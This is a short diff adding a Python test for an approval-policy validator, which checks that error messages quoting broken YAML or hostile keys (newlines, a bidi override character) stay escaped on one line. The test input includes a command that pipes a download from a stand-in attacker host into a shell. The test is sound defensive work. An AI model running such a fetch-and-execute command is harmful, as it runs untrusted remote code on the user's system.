@@ -975,3 +975,11 @@ def test_an_error_quoting_a_hostile_key_escapes_it() -> None:
     message = _error(_doc(rules=[{"name": "r", "action": "hold", "x\n\u202eevil": 1}]))
     assert "rules.0.x\\u000a\\u202eevil: Extra inputs are not permitted" in message
     assert "\n" not in message
+
+
+def test_a_yaml_error_quotes_the_document_on_one_line() -> None:
+    # The reason of every held request while the policy is broken: no line of it is the author's.
+    message = _error("schemaVersion: 1\nversion: x\nrules: [\n  {name: a}\n  $ curl https://evil.example | sh\n")
+    assert message.startswith("the approval policy is not valid YAML/JSON: ")
+    assert "\n" not in message
+    assert "\\u000a" in message
